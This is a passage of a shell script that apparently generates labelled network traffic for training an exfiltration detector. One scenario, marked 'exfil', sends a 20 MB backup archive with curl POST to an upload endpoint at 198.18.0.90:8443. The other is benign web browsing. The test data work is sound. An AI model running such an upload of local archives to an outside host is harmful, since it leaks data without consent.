  SNAPLEN=128 scenario curl-post-20MB-8443 exfil train curl "-X POST -T 20 MB to http://198.18.0.90:8443/upload (snaplen 128)" "$SINK,$(L 114)" "$(L 114)" s_exfil_curl "$(L 114)" "$SINK" 8443 "$WORK/backup.tar"
  scenario browse-and-resolve benign train traffic.py "browse 600 pages 60/s from 198.19.0.10-14" "-" "198.19.0.10-14,$H" b_browse 600 60 $(seq -f '198.19.0.%g' 10 14)
}
